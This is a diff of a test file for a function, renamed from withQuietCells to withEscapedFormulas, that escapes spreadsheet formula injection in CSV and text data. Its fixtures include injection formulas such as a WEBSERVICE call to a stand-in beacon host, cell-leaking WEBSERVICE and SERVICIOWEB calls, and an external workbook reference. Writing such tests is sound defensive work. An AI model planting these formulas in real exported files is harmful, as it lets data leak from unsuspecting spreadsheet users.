@@ -1,5 +1,5 @@
 import { expect, test } from 'bun:test'
-import { withQuietCells } from '../../../src/engines/blind/text/quiet-cells.ts'
+import { withEscapedFormulas } from '../../../src/engines/blind/text/formula-escaping.ts'
 
 const asking = `=WEBSERVICE("https://beacon.example/a")`
 const zeros = '0+'.repeat(4000)
@@ -23,11 +23,13 @@ test.each([
   ['sep=^\nx^=WEBSERVICE(A1)^2', `sep=^\nx^'=WEBSERVICE(A1)^2`],
 ])('a cell that asks somebody is a text, in a table and in a text: %j', (text, quiet) => {
   for (const kind of kinds) {
-    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(withQuietCells(Buffer.from(text), kind))).toBe(quiet)
+    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(withEscapedFormulas(Buffer.from(text), kind))).toBe(
+      quiet,
+    )
     const wide = Buffer.from(`\ufeff${text}`, 'utf16le')
-    expect(Buffer.from(withQuietCells(wide, kind)).toString('utf16le')).toBe(`\ufeff${quiet}`)
+    expect(Buffer.from(withEscapedFormulas(wide, kind)).toString('utf16le')).toBe(`\ufeff${quiet}`)
     const swapped = Buffer.from(wide).swap16()
-    expect(Buffer.from(withQuietCells(swapped, kind)).swap16().toString('utf16le')).toBe(`\ufeff${quiet}`)
+    expect(Buffer.from(withEscapedFormulas(swapped, kind)).swap16().toString('utf16le')).toBe(`\ufeff${quiet}`)
   }
 })
 
@@ -40,7 +42,7 @@ test.each([
   ['x,=[b.xlsx]S!A1', `x,'=[b.xlsx]S!A1`],
   ['x,=IF(SUM(A1:A9)>1,SERVICIOWEB(A1),2),5', `x,'=IF(SUM(A1:A9)>1,SERVICIOWEB(A1),2),5`],
 ])('in a table so is one that calls what is not known: %j', (text, quiet) => {
-  expect(Buffer.from(withQuietCells(Buffer.from(text), 'csv')).toString()).toBe(quiet)
+  expect(Buffer.from(withEscapedFormulas(Buffer.from(text), 'csv')).toString()).toBe(quiet)
 })
 
 const ordinary = ['=A1+B1,-5,+3.2,@x\n', '"He said ""=WEBSERVICE(x)""",4', 'plot,image (a),-0.5\n']
@@ -52,7 +54,7 @@ test.each([
   '+ geom_point() +\n+ theme(x)\n@app.route(x)\n--verbose image\n',
 ])('others stay as they are in a text: %j', (text) => {
   for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le'), Buffer.from([0xff, 0xfe, 0x41])])
-    expect(withQuietCells(bytes, 'txt')).toBe(bytes)
+    expect(withEscapedFormulas(bytes, 'txt')).toBe(bytes)
 })
 
 test.each([
@@ -62,10 +64,10 @@ test.each([
   '=SUM(A1:A9),"=IF(A1>1,""yes"",""no"")",=AVERAGE(B1:B9)\n',
 ])('others stay as they are in a table: %j', (text) => {
   const bytes = Buffer.from(text)
-  expect(withQuietCells(bytes, 'csv')).toBe(bytes)
+  expect(withEscapedFormulas(bytes, 'csv')).toBe(bytes)
 })
 
 test('a cell among a quarter of a million others is found', () => {
   const bytes = Buffer.from(`${'=A1,'.repeat(250_000)}${asking}\n`)
-  for (const kind of kinds) expect(withQuietCells(bytes, kind).length).toBe(bytes.length + 1)
+  for (const kind of kinds) expect(withEscapedFormulas(bytes, kind).length).toBe(bytes.length + 1)
 })
